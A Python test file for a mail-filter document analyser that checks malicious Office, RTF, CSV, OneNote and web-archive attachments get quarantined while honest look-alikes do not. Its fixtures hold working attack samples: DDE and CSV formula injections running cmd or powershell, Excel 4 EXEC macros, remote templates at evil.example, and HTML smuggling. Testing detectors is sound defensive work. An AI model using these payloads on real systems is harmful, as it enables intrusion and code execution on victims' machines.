"""Known attacks by documents are quarantined, each by itself; ordinary documents that look like them are not."""

from __future__ import annotations

import base64
import struct
import zlib

import pytest

from bridge.service.analysis.content.office_attacks import is_remote
from bridge.service.analysis.decision import DecisionTable
from bridge.service.analysis.inspection import inspect
from bridge.service.settings import Decisions
from tests.service.service_kit import EICAR, attached, mail, zipped
from tests.service.test_service_documents import ALL, FORM, LINK, MACRO, ole, relations, script, tags, vba

TABLE = DecisionTable(Decisions())


def score(content: bytes, name: str) -> float:
    return TABLE.decide(inspect(attached(content, name), ALL).tags).score


@pytest.mark.parametrize("before", [b"", b"\xef\xbb\xbf", b"\xef\xbb\xbf" + b" " * 5000])
def test_a_relation_behind_much_space_was_not_read(before: bytes) -> None:
    """Neither by the parser nor by the pattern, which ends at the first `>`."""
    parts = relations("attachedTemplate", "https://a.example/t").replace(b'Id="r"', b'Id="r" x=">"')
    document = zipped(("word/document.xml", b"<w:document/>"), ("word/_rels/settings.xml.rels", before + parts))
    assert "office:remote-template" in tags(document, "a.docx")


def record(kind: int, data: bytes) -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def book(*, formula: bytes = b"", name: bytes = b"\x01", is_built_in: bool = True, link: bytes = b"") -> bytes:
    """An old workbook with a sheet of macros, or one that asks another program."""
    globals_ = record(0x809, struct.pack("<HHHHII", 0x600, 5, 0, 0, 0, 0))
    sheet = b""
    if formula:
        globals_ += record(0x85, struct.pack("<IBB", 0, 0, 1) + b"\x05\0Macro")
        globals_ += record(0x18, struct.pack("<HBBHHH4x", 0x20 * is_built_in, 0, len(name), 0, 0, 0) + b"\0" + name)
        sheet = record(0x809, struct.pack("<HHHHII", 0x600, 0x40, 0, 0, 0, 0))
        sheet += record(0x06, bytes(20) + struct.pack("<H", len(formula)) + formula)
    if link:
        globals_ += record(0x1AE, struct.pack("<HHB", 1, len(link), 0) + link)
    return ole({"Workbook": globals_ + record(0x0A, b"") + sheet + record(0x0A, b"")})


EXEC, FORMULA = b"\x17\x04\0calc\x42\x01\x6e\x00", b"\x17\x04\0calc\x42\x02\x60\x00"
MACRO_SHEET = b"<xm:macrosheet><row><c><f>EXEC(&quot;calc&quot;)</f></c></row></xm:macrosheet>"
AUTO_NAME = b"<definedNames><definedName name='_xlnm.Auto_Open'>m</definedName></definedNames>"
EQUATION_HEAD = struct.pack("<HIHI16x", 28, 0x20000, 0xC1BA, 100) + b"\x03\x01\x01\x03\x0a\x0a"
PLAIN_EQUATION = EQUATION_HEAD + b"\x01\x12\x83x\0\x02\x86=\0\x02\x881\0\0\0"
LONG_FONT = EQUATION_HEAD + b"\x08\x5a\x5a" + b"cmd.exe /c calc " * 4 + b"A" * 9 + b"\x12\x0c\x43\0"


def field(text: str) -> bytes:
    begin, run = '<w:fldChar w:fldCharType="begin"/>', "<w:instrText>PAGE </w:instrText>"
    return zipped(("word/document.xml", f"{run}{begin}<w:instrText>{text}</w:instrText>".encode()))


def rtf_object(class_name: bytes, content: bytes) -> bytes:
    head = struct.pack("<III", 0x501, 2, len(class_name) + 1) + class_name + b"\0" + bytes(8)
    return (
        b"{\\rtf1{\\object\\objemb{\\*\\objdata "
        + (head + struct.pack("<I", len(content)) + content).hex().encode()
        + b"}}}"
    )


def template(target: str) -> bytes:
    return zipped(("word/_rels/settings.xml.rels", relations("attachedTemplate", target)))


ATTACKS = {
    "Excel 4, EXEC": (book(formula=EXEC), "a.xls"),
    "Excel 4, a name of one's own": (book(formula=EXEC, name=b"auto_open_77", is_built_in=False), "a.xls"),
    "Excel 4, formulas that write formulas": (book(formula=FORMULA), "a.xls"),
    "Excel 4, new format": (
        zipped(("xl/macrosheets/sheet1.xml", MACRO_SHEET), ("xl/workbook.xml", AUTO_NAME)),
        "a.xlsm",
    ),
    "Excel 4, binary format": (
        zipped(("xl/macrosheets/sheet1.bin", EXEC), ("xl/workbook.bin", "Auto_Open".encode("utf-16-le"))),
        "a.xlsb",
    ),
    "DDE in Word": (field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "a.docx"),
    "DDE through another program": (field('DDE Excel "..\\\\..\\\\cmd.exe" "/c calc"'), "a.docx"),
    "DDE with a quoted program": (field("DDE &quot;C:\\\\Office\\\\MSWord.exe\\\\..\\\\cmd.exe&quot; x"), "a.docx"),
    "DDE in an attribute": (
        zipped(("word/document.xml", b'<w:fldSimple w:instr=\'DDEAUTO "mshta" "http://a.example"\'/>')),
        "a.docx",
    ),
    "DDE in an old document": (
        ole({"WordDocument": b"\xec\xa5" + bytes(60) + b"\x13 DDEAUTO cmd /c calc \x14"}),
        "a.doc",
    ),
    "DDE behind many harmless fields": (
        ole(
            {"WordDocument": b"\xec\xa5" + bytes(60) + b"\x13 DDE Excel a b \x14" * 101 + b"\x13 DDE cmd /c calc \x14"}
        ),
        "a.doc",
    ),
    "DDE in RTF": (b'{\\rtf1{\\field{\\*\\fldinst {\\b DD}{\\i E\\\'41UTO cmd "/c calc"}}{\\fldrslt x}}}', "a.rtf"),
    "DDE in an old workbook": (book(link=b"cmd\x03/c calc"), "a.xls"),
    "DDE in a new workbook": (
        zipped(("xl/externalLinks/e.xml", b"<ddeLink ddeService='cmd' ddeTopic='/c calc'>")),
        "a.xlsx",
    ),
    "DDE in a table": (b"name,amount\r\nx,=cmd|'/C calc'!A0\r\n", "a.csv"),
    "DDE in a quoted cell": (b"x;\"@SUM(1,1)*cmd|' /C powershell x'!A0\"\r\n", "a.csv"),
    "DDE within a formula": (b"-2+3+cmd|'/C calc'!A0", "a.CSV"),
    "DDE with a program's path": (b"=IF(1,MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!'x')", "a.tsv"),
    "DDE in a table in UTF-16": ("x\t=cmd|'/C calc'!A0".encode("utf-16"), "a.csv"),
    "DDE in a table in an archive": (zipped(("a.csv", b"=rundll32|'URL.dll,OpenURL calc.exe'!A")), "a.zip"),
    "equation with a long font": (ole({"Equation Native": LONG_FONT}), "a.doc"),
    "equation without a header": (ole({"Equation Native": b"\x41" * 99}), "a.doc"),
    "equation in RTF": (rtf_object(b"eqUAtion.3", b"\x1c\0" + bytes(200)), "a.rtf"),
    "equation in RTF, without its name": (
        rtf_object(
            b"Word.Document.8", b"\xd0\xcf\x11\xe0" + bytes(90) + bytes.fromhex("02ce020000000000c000000000000046")
        ),
        "a.doc",
    ),
    "template": (template("https://a.example/t.dotm"), "a.docx"),
    "template in a share": (template("file:///\\\\203.0.113.9\\s\\t.dotm"), "a.docx"),
    "template by WebDAV": (template("\\\\a.example@SSL@443\\DavWWWRoot\\t.dotm"), "a.docx"),
    "template of a number": (template("http://3405803785/t"), "a.docx"),
    "template in RTF": (b"{\\rtf1{\\*\\template http://a.example/t.dotm}}", "a.rtf"),
    "object that is a page": (
        zipped(("word/_rels/document.xml.rels", relations("oleObject", "https://a.example/x.html!"))),
        "a.docx",
    ),
    "object of a moniker": (
        ole({"\x01Ole": bytes(40) + bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b") + LINK.encode("utf-16-le")}),
        "a.doc",
    ),
}


@pytest.mark.parametrize("kind", ATTACKS)
def test_an_attack_reaches_the_quarantine_by_itself(kind: str) -> None:
    assert score(*ATTACKS[kind]) >= 8


REPORT = (
    "<html><head><style>.x{background:url(\"data:image/svg+xml,%3csvg xmlns='http://www.w3.org/2000/svg'%3e%3cpath d='"
    + "M0 0h9v9z" * 9
    + "'/%3e%3c/svg%3e\")} input[type=password],input[type='text']{border:0}</style></head><body><table><td>1</td>"
    "</table><button onclick='save()'>Export</button><script>function save(){var b=new Blob([csv],{type:'text/csv'});"
    "a.href=URL.createObjectURL(b);a.download='report.csv';a.click()}</script></body></html>"
)

HONEST = {
    "formula of the old editor": (ole({"Equation Native": PLAIN_EQUATION}), "a.doc"),
    "formula of MathType": (rtf_object(b"Equation.DSMT4", b"\x05\x01" + bytes(200)), "a.rtf"),
    "own template": (template("file:///C:\\Users\\jo\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm"), "a.docx"),
    "template of the company": (template("file:///\\\\fileserver\\templates\\letter.dotx"), "a.docx"),
    "template of the company's domain": (template("\\\\fs01.corp.local\\templates\\letter.dotx"), "a.docx"),
    "template at a private address": (template("\\\\192.168.7.9\\templates\\letter.dotx"), "a.docx"),
    "template in RTF": (b"{\\rtf1{\\*\\template C:\\\\Templates\\\\Normal.dotm}}", "a.rtf"),
    "sheet in a letter": (field('DDE Excel.Sheet.12 "C:\\\\data\\\\book.xlsx" "Sheet1!R1C1" \\a'), "a.docx"),
    "host called dde": (field('HYPERLINK "https://www.dde.example/" dde cmd'), "a.docx"),
    "prices in a sheet": (
        zipped(("xl/externalLinks/e.xml", b"<ddeLink ddeService='winblp' ddeTopic='bbk'>")),
        "a.xlsx",
    ),
    "report with a button": (REPORT.encode(), "report.html"),
    "prices in a table": (b"=winblp|bbk!'IBM US Equity,[PX_LAST]'", "a.csv"),
    "table with lines": (b"a|b|c!\r\n-1|+2|'x'!\r\nrun cmd | more!,=1+2\r\n", "a.csv"),
    "text about formulas": (b"never open =cmd|'/C calc'!A0", "a.txt"),
}


@pytest.mark.parametrize("kind", HONEST)
def test_an_honest_document_stays_below_the_quarantine(kind: str) -> None:
    assert score(*HONEST[kind]) <= 6


def active_mime(content: bytes) -> bytes:
    return b"ActiveMime\0\0\x01\xf0\x04\0\0\0\xff\xff\xff\xff\0\0\x07\xf0".ljust(50, b"\0") + zlib.compress(content)


PROJECT = ole({"Module1": vba(MACRO)})
FOUND = {"mime:macro", "office:auto-macro", "office:macro-runs-program", "host:a.example"}
ARCHIVE = (
    b'MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Location: file:///C:/a.htm\r\n'
    b'Content-Type: text/html\r\n\r\n<html><link rel=Edit-Time-Data href="a.mso"></html>\r\n--b\r\n'
    b"Content-Location: file:///C:/a.mso\r\nContent-Type: application/x-mso\r\nContent-Transfer-Encoding: base64\r\n"
    b"\r\n" + base64.encodebytes(active_mime(PROJECT)).replace(b"\n", b"\r\n") + b"\r\n--b--\r\n"
)


@pytest.mark.parametrize(
    ("content", "name"),
    [
        (active_mime(PROJECT), "editdata.mso"),
        (active_mime(PROJECT), "picture.jpg"),
        (ARCHIVE, "a.mht"),
        (ARCHIVE, "a.doc"),
        (ARCHIVE.replace(b"MIME-Version: 1.0\r\n", b"").replace(b"related;", b"related;\r\n "), "a.mht"),
        (b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n" + ARCHIVE + b"\ntrailer<<>>\n%%EOF", "a.doc"),
        (b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n" + ARCHIVE + b"\ntrailer<<>>\n%%EOF", "a.pdf"),
        (zipped(("invoice.doc", ARCHIVE)), "a.zip"),
    ],
)
def test_macros_in_a_web_archive_are_found(content: bytes, name: str) -> None:
    assert tags(content, name) >= FOUND


def test_a_decoy_before_the_macros_hid_them() -> None:
    """Office reads where the header says; only the first compressed data was read."""
    decoy = active_mime(b"decoy").ljust(0x22A, b"\0")
    assert tags(decoy + zlib.compress(PROJECT), "editdata.mso") >= FOUND
    named = b"ActiveMime".ljust(0x1E, b"\0") + (6000 - 46).to_bytes(2, "little")
    assert tags(named.ljust(6000, b"\0") + zlib.compress(PROJECT), "editdata.mso") >= FOUND


@pytest.mark.parametrize(
    ("target", "is_outside"),
    [
        ("mhtml:http://intranet@evil.example/a!x-usc:http://intranet@evil.example/a", True),
        ("url:http://x@evil.example/t.dotm", True),
        ("ms-word:ofe|u|http://x@evil.example/t.dotm", True),
        ("webdav://x@evil.example/t.dotm", True),
        ("\\\\?\\UNC\\evil.example\\s\\t.dotm", True),
        ("file:///\\\\?\\UNC\\evil.example\\s\\t.dotm", True),
        ("\\\\evil.example@SSL\\s\\t.dotm", True),
        ("\\\\fileserver\\s\\t.dotm", False),
        ("\\\\?\\UNC\\fileserver\\s\\t.dotm", False),
        ("http://me@intranet/t.dotm", False),
        ("file:///C:/t.dotm", False),
    ],
)
def test_a_user_name_or_a_long_path_made_an_address_internal(target: str, is_outside: bool) -> None:
    assert is_remote(target) is is_outside


def test_a_sheet_with_as_many_links_as_excel_allows_is_read() -> None:
    """Each counted as much as a host of its own: such a catalogue could never be delivered."""
    link = '<Relationship Id="r{}" Type="http://x/hyperlink" Target="https://shop.example/{}" TargetMode="External"/>'
    part = f"<Relationships>{''.join(link.format(n, n) for n in range(65_530))}</Relationships>".encode()
    found = tags(zipped(("xl/worksheets/_rels/sheet1.xml.rels", part)), "a.xlsx")
    assert not [tag for tag in found if tag.startswith("limit:")], found


def test_an_active_mime_file_that_cannot_be_read_has_a_tag() -> None:
    assert "document:not-read" in tags(b"ActiveMime" + bytes(100), "a.mso")


def onenote(name: str, content: bytes) -> bytes:
    """A file, and a set of three properties, of which the second is its name."""
    wide = (name + "\0").encode("utf-16-le")
    ids = struct.pack("<III", 0x14001C12, 0x1C001D9C, 0x08001C04)
    note = bytes.fromhex("e4525c7b8cd8a74d") + bytes(64) + b"\xe7" + struct.pack("<H", 3) + ids + bytes(4)
    note += struct.pack("<I", len(wide)) + wide
    return (
        note + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(content)) + bytes(12) + content
    )


def test_the_names_of_files_in_onenote_are_judged() -> None:
    assert {"mime:executable", "mime:double-extension"} <= tags(onenote("invoice.pdf.wsf", b"x=1;" * 9), "a.one")
    many = b"".join(onenote(f"{number}.txt", b"") for number in range(1001))
    assert "mime:executable" in tags(many + onenote("evil.com", b"x=1;" * 9), "a.one")
    assert {"mime:executable", "office:embedded-file"} <= tags(onenote("Rechnung\u00e4.cmd", b"@echo off"), "a.one")
    assert "attachment:credential-form" in tags(onenote("open.html", b"<!--" + b" " * 5000 + b"-->" + FORM), "a.one")
    assert "mime:executable" not in tags(onenote("report.docx", b"PK\3\4"), "a.one")
    text = "see www.example.com\0\0".encode("utf-16-le")
    assert "mime:executable" not in tags(onenote("report.txt", b"words") + text, "a.one")
    assert "mime:executable" in tags(onenote("report.txt", b"words") + "setup.hta\0\0".encode("utf-16-le"), "a.one")


def part(fields: str, page: bytes) -> bytes:
    body = (
        b"--x\r\nContent-Type: text/html\r\n\r\n<p>see attachment</p>\r\n--x\r\n" + fields.encode() + b"\r\n\r\n" + page
    )
    return mail(body + b"\r\n--x--\r\n", MIME_Version="1.0", Content_Type='multipart/mixed; boundary="x"')


SMUGGLED = base64.b64encode(zipped(("a.js", b"WScript.Echo(1)"))).decode()
SMUGGLING = b"<!-- " + b"x" * 3000 + b" -->" + script(f"a.href=URL.createObjectURL(new Blob([atob('{SMUGGLED}')]))")


@pytest.mark.parametrize(
    "fields",
    [
        "Content-Type: text/html",
        "Content-Type: text/html\r\nContent-Disposition: attachment",
        "Content-Type: text/html; name=invoice",
        "Content-Type: text/html; name=invoice.pdf",
        "Content-Type: application/xhtml+xml",
        "Content-Type: image/svg+xml",
    ],
)
def test_a_page_without_the_name_of_one_is_read(fields: str) -> None:
    """Mail programs offer it as a file, and open it by its type."""
    found = inspect(part(fields, SMUGGLING), ALL).tags
    assert {"attachment:builds-file", "mime:executable"} <= found


def test_the_page_that_is_the_text_of_a_mail_is_no_attachment() -> None:
    found = inspect(mail(SMUGGLING, MIME_Version="1.0", Content_Type="text/html"), ALL).tags
    assert not any(tag.startswith("attachment:builds") for tag in found)


@pytest.mark.parametrize(
    "numbers",
    [map(str, EICAR), map(hex, EICAR), (f"{byte:4d}\n" for byte in EICAR), (f"{b}" for b in b"7" * 9 + EICAR)],
)
def test_lists_of_numbers_are_files(numbers: map[str]) -> None:
    """Of few digits, too: an old Python does not match some of them with a possessive group."""
    assert "malware:eicar" in tags(script(f"f=new Uint8Array([{','.join(numbers)}])"), "a.html")
